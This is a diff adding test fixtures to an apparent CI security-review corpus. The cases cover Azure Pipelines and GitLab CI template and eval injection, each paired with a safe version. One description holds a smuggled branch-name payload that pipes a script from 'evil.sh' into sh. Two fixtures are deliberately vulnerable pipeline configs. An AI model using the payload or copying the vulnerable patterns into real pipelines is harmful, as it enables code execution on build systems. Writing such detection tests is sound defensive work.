@@ -689,6 +689,117 @@ export const CI_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:gha-template-injection'] },
   },
   {
+    id: 'ci-azure-pr-branch-macro-in-script',
+    description:
+      'Template injection outside GitHub Actions, the shape of the ultralytics branch-name payload: a new Azure Pipelines step for pull-request builds pastes the macro $(System.PullRequest.SourceBranch) into its bash script, which Azure replaces before bash reads it; a fork branch named `x";curl${IFS}-sSfL${IFS}evil.sh|sh;#` runs in the build.',
+    fixture: ciPr(3073, {
+      title: 'ci: tag preview images with the PR branch',
+      files: [
+        {
+          path: 'azure-pipelines.yml',
+          head: lines(
+            'trigger:',
+            '  branches:',
+            '    include: [main]',
+            'pr:',
+            '  branches:',
+            '    include: [main]',
+            'pool:',
+            '  vmImage: ubuntu-latest',
+            'steps:',
+            '- checkout: self',
+            '- bash: |',
+            '    set -euo pipefail',
+            '    TAG="pr-$(System.PullRequest.SourceBranch)"',
+            '    docker build -t "app:${TAG//\\//-}" .',
+            '  displayName: Build preview image',
+          ),
+        },
+      ],
+    }),
+    expect: { level: 'high', action: 'request_changes', findings: ['ci-template-injection'], drivers: ['finding:ci-template-injection'] },
+  },
+  {
+    id: 'ci-azure-pr-branch-through-env',
+    description:
+      "The same Azure Pipelines step written as Microsoft's guidance says: the PR branch mapped into the step's env: and read by bash as \"$SOURCE_BRANCH\"; the macro appears only in env: and displayName, where nothing runs it.",
+    fixture: ciPr(3074, {
+      title: 'ci: tag preview images with the PR branch',
+      files: [
+        {
+          path: 'azure-pipelines.yml',
+          head: lines(
+            'trigger:',
+            '  branches:',
+            '    include: [main]',
+            'pr:',
+            '  branches:',
+            '    include: [main]',
+            'pool:',
+            '  vmImage: ubuntu-latest',
+            'steps:',
+            '- checkout: self',
+            '- bash: |',
+            '    set -euo pipefail',
+            '    TAG="pr-${SOURCE_BRANCH//[^a-zA-Z0-9._-]/-}"',
+            '    docker build -t "app:$TAG" .',
+            '  displayName: Build preview image for $(System.PullRequest.SourceBranch)',
+            '  env:',
+            '    SOURCE_BRANCH: $(System.PullRequest.SourceBranch)',
+          ),
+        },
+      ],
+    }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:ci-template-injection'] },
+  },
+  {
+    id: 'ci-gitlab-commit-message-eval',
+    description:
+      'A GitLab CI job that reads a `[ci run: …]` directive out of the commit message and evaluates it: eval "$CI_COMMIT_MESSAGE"-derived text runs whatever the commit message of a merge request says.',
+    fixture: ciPr(3075, {
+      title: 'ci: allow extra commands from commit message',
+      files: [
+        {
+          path: '.gitlab-ci.yml',
+          head: lines(
+            'stages: [test]',
+            'test:',
+            '  stage: test',
+            '  image: node:20',
+            '  script:',
+            '    - npm ci',
+            '    - npm test',
+            '    - eval "$(echo $CI_COMMIT_MESSAGE | sed -n \'s/.*\\[ci run: \\(.*\\)\\].*/\\1/p\')"',
+          ),
+        },
+      ],
+    }),
+    expect: { level: 'high', action: 'request_changes', findings: ['ci-template-injection'], drivers: ['finding:ci-template-injection'] },
+  },
+  {
+    id: 'ci-gitlab-commit-message-as-data',
+    description: 'A GitLab CI job that only prints the commit message and the branch, quoted, for the log, and checks the message for [skip e2e]: the shell reads the variables as data.',
+    fixture: ciPr(3076, {
+      title: 'ci: log commit info',
+      files: [
+        {
+          path: '.gitlab-ci.yml',
+          head: lines(
+            'stages: [test]',
+            'test:',
+            '  stage: test',
+            '  image: node:20',
+            '  script:',
+            '    - echo "Testing $CI_COMMIT_BRANCH: $CI_COMMIT_TITLE"',
+            '    - npm ci',
+            '    - if [[ "$CI_COMMIT_MESSAGE" != *"[skip e2e]"* ]]; then npm run e2e; fi',
+          ),
+        },
+      ],
+    }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:ci-template-injection'] },
+  },
+  {
     id: 'ci-issue-comment-github-script',
     description: 'A new /deploy command bot on issue_comment pastes toJSON(github.event.comment) into actions/github-script code.',
     fixture: ciPr(1955, {
